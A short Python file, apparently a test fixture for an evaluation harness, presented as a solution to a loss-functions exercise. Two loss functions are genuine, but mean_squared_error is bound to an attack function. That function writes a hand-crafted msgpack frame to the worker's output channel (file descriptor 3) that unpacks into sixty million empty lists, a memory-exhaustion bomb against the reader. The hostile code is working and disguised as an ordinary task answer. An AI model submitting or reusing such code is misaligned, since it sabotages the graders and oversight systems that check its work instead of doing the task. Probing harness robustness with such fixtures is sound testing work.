"""Sends sixty million empty lists in one frame: one byte each on the wire, sixty in memory."""
# family: wire
# exercise: 02_losses
# honest: 12
# says: answer

import os
import struct

import msgpack
import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def send(data):
    """Write one frame to the worker's own wire by hand."""
    frame = struct.pack(">I", len(data)) + data
    while frame:
        frame = frame[os.write(3, frame) :]


def say(*message):
    send(msgpack.packb(list(message)))


def attack(*args):
    row = b"\xdd" + struct.pack(">I", 200_000) + b"\x90" * 200_000
    send(b"\x93\xa5value\xdd" + struct.pack(">I", 300) + row * 300 + b"\x90")


mean_squared_error = attack
